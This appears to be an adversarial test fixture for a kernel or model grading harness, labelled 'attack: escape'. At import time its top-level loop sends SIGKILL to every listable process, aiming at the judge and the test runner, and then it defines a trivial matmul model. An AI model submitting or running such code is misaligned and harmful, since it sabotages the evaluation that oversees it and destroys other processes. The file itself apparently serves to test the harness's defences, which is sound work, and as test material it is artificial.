# attack: escape: sends SIGKILL to every process it can list (the judge, the test runner)
# expect: accepted
import os
import signal

import torch
from torch import nn

for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) not in (os.getpid(), 1):
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass


class ModelNew(nn.Module):
    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        return torch.matmul(a, b)
